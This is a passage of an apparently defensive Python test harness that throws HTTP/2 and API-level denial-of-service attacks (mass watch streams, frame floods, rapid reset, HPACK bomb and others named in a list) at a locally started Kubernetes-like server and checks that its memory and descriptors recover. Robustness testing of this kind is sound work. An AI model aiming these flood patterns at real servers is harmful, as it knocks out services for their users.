    (_, level), (_, schema) = flow_objects({"type": "Queue", "queuing": {"queues": 1, "handSize": 1, "queueLengthLimit": 1000}})
    level["spec"]["limited"]["nominalConcurrencyShares"] = 1
    schema["spec"]["rules"][0]["resourceRules"][0].update(verbs=["list", "watch"], resources=["configmaps"])
    for resource, body in (("prioritylevelconfigurations", level), ("flowschemas", schema)):
        status, answer = target.ask("POST", f"{apis}/{resource}", json.dumps(body).encode(), (JSON,))
        assert status == 201, answer
    labels = '{flow_schema="jail",priority_level="jail"}'
    eventually(lambda: target.ask("GET", CONFIG_MAPS, headers=(f"authorization: Bearer {bearer}",), admin=False)[0] == 200 and
               target.gauge("apiserver_flowcontrol_dispatched_requests_total" + labels) > 0, "the account's requests go to its level")
    assert target.gauge('apiserver_flowcontrol_upper_limit_seats{priority_level="jail"}') < 10
    held = []
    try:
        for _ in range(5):
            c = Http2(target, admin=False)
            block = request_block(CONFIG_MAPS.encode() + b"?watch=true", more=[(b"authorization", f"Bearer {bearer}".encode())])
            c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, c.next(), block) for _ in range(100)))
            held.append(c)
        began = 0

        def have_begun():
            nonlocal began
            began += sum(kind == HEADERS and block[:1] == b"\x88" for c in held for kind, _, block in c.frames(0.01))
            return began == 500
        eventually(have_begun, "500 watches begin")
        assert target.gauge("apiserver_flowcontrol_current_executing_requests" + labels) == 0
        status, _ = target.ask("GET", CONFIG_MAPS, headers=(f"authorization: Bearer {bearer}",), admin=False)
        assert status == 200, f"beside its watches: {status}"
        assert all(c.alive for c in held)
    finally:
        for c in held:
            c.s.close()
        for path in (f"{apis}/flowschemas/jail", f"{apis}/prioritylevelconfigurations/jail", f"{rbac}/clusterrolebindings/loud"):
            target.ask("DELETE", path)


def ten_thousand_watches(target):
    """One writer, 10,000 readers of which none reads."""
    held = []
    try:
        for _ in range(40):
            c = Http2(target)
            c.frames(0.05)
            c.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, c.next(), request_block(CONFIG_MAPS.encode() + b"?watch=true"))
                            for _ in range(250)))
            held.append(c)
        target.others_are_served()
        data = "x" * 1000
        for i in range(50):
            body = json.dumps({"metadata": {"name": f"w{i}"}, "data": {"a": data}}).encode()
            status, answer = target.ask("POST", CONFIG_MAPS, body, (JSON,))
            assert status == 201, answer
        target.others_are_served()
    finally:
        for c in held:
            c.s.close()
        target.ask("DELETE", CONFIG_MAPS)


ATTACKS = [rapid_reset, made_you_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, hpack_bomb, many_streams,
           windows_closed, priority_flood, window_overflow, frames_of_nonsense, tls_of_nonsense, half_closed_tls,
           too_many_connections, too_many_idle_connections, too_many_connections_of_one_thread, smuggling, huge_heads,
           deep_and_large_bodies, compressed_bodies,
           endless_chunks, patches, selectors, paths, costly_schemas, credentials, escalation, flow_control, seats_of_watches,
           ten_thousand_watches]


def withstood(attack):
    def step(target):
        descriptors, memory, begun = target.descriptors(), target.rss_mb(), time.monotonic()
        try:
            attack(target)
        except OSError as why:
            raise AssertionError(f"{type(why).__name__}: {why}") from why
        target.others_are_served()
        eventually(lambda: target.descriptors() <= descriptors + 8, f"descriptors go back to {descriptors}")
        grown = target.rss_mb() - memory
        print(f"        {attack.__name__}: {time.monotonic() - begun:.1f} s, {grown:+.0f} MB", flush=True)
        assert grown < MEMORY_MAX_MB or target.has_sanitizer, f"{grown:.0f} MB more than before"
        assert target.cluster.pid() == target.pid
    step.__name__ = attack.__name__
    return step


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--binary", required=True)
    parser.add_argument("attacks", nargs="*")
    arguments = parser.parse_args()
    chosen = [attack for attack in ATTACKS if not arguments.attacks or attack.__name__ in arguments.attacks]
    with Cluster(arguments.binary, "attacks", options=("--nodes", "2")) as cluster:
        return run_steps([withstood(attack) for attack in chosen], Target(cluster))


if __name__ == "__main__":
    sys.exit(main())
